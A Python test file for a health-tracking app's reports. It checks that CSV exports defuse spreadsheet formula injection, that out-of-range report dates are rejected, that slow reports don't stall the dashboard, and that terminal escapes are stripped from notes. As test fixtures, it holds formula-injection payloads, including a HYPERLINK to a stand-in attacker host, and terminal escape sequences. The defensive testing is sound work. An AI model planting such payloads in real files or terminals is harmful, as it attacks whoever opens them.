"""Reports that cannot be turned against their reader: formula-safe CSV, dates kept to years
that make sense, report work that never stalls the dashboard, and clean terminal output."""

from __future__ import annotations

import csv
import io
import threading
import time
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from typer.testing import CliRunner

from pacewise.cli import app, commands  # noqa: F401  (registers the sub-commands)
from pacewise.clinic.live import Client
from pacewise.domain.pain import PainKind, new_pain_entry
from pacewise.store import Store

runner = CliRunner()
RISKY = ['=HYPERLINK("http://evil.example/?x","click")', "+1+2", "-3+cmd", "@SUM(A1)", "\tx"]


def test_csv_cells_that_a_spreadsheet_would_run_are_made_text(home: Path, tmp_path: Path) -> None:
    store = Store.open(home)
    at = datetime(2025, 5, 9, 8, tzinfo=UTC)
    for note in [*RISKY, "\rline one\nline two"]:
        store.add_pain(new_pain_entry(3, PainKind.diary, at, note=note))
    out = tmp_path / "tables.zip"
    result = runner.invoke(app, ["report", "--format", "csv", "--out", str(out)])
    assert result.exit_code == 0, result.stderr
    with zipfile.ZipFile(out) as z:
        pain = list(csv.DictReader(io.StringIO(z.read("pain.csv").decode())))
        sessions = list(csv.DictReader(io.StringIO(z.read("sessions.csv").decode())))
    notes = [row["note"] for row in pain if row["note"]]
    for note in RISKY:
        assert "'" + note in notes
    assert "' line one line two" in notes  # one row, and no carriage return to start a formula
    assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in notes)
    # numbers stay numbers: a fall in pain is written -1, never '-1
    changes = [row["pain_change"] for row in sessions if row["pain_change"]]
    assert any(c.startswith("-") for c in changes)
    assert all(int(c) == int(c.lstrip("'")) and not c.startswith("'") for c in changes)


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (["--to", "9999-12-31"], "--to 9999-12-31 is outside the years 1900 to 2200"),
        (["--from", "0001-01-01"], "--from 0001-01-01 is outside the years 1900 to 2200"),
        (["--from", "1899-12-31", "--to", "2025-01-01"], "outside the years 1900 to 2200"),
    ],
)
def test_report_refuses_dates_outside_1900_to_2200(
    home: Path, tmp_path: Path, args: list[str], says: str
) -> None:
    out = tmp_path / "r.pdf"
    result = runner.invoke(app, ["report", "--format", "pdf", "--out", str(out), *args])
    assert result.exit_code == 2 and says in result.stderr
    assert "Traceback" not in result.stderr and not out.exists()


@pytest.mark.parametrize("query", ["to=9999-12-31", "from=0001-01-01", "from=1800-01-01"])
def test_dashboard_refuses_dates_outside_1900_to_2200(client: Client, query: str) -> None:
    reply = client.get(f"/reports/file/pdf?{query}")
    assert reply.status == 400 and "outside the years 1900 to 2200" in reply.text
    page = client.get(f"/?{query}")
    assert page.status == 200 and "outside the years 1900 to 2200" in page.text


def test_a_slow_report_does_not_hold_up_other_requests(client: Client) -> None:
    """The PDF of four months takes about a second; a page asked for meanwhile comes first."""
    done: dict[str, float] = {}

    def fetch(name: str, path: str) -> None:
        reply = client.get(path)
        assert reply.status == 200
        done[name] = time.monotonic()

    client.get("/")  # the snapshot is read and cached: the report's time is its own work
    slow = threading.Thread(target=fetch, args=("report", "/reports/file/pdf?from=1900-01-01"))
    started = time.monotonic()
    slow.start()
    time.sleep(0.15)
    fetch("page", "/plan")
    slow.join(timeout=120)
    assert done["report"] - started > 0.4, "the report was too quick to show anything"
    assert done["page"] < done["report"], done


def test_pain_list_strips_terminal_escapes_from_notes(home: Path) -> None:
    store = Store.open(home)
    note = "ok\x1b]0;owned\x07 \x1b[2J\x9b31m done\u202e"
    store.add_pain(new_pain_entry(2, PainKind.diary, datetime(2025, 5, 9, tzinfo=UTC), note=note))
    result = runner.invoke(app, ["pain", "list"])
    assert result.exit_code == 0
    assert not any(c in result.stdout for c in "\x1b\x07\x9b\u202e")
    assert "ok]0;owned [2J31m done" in result.stdout
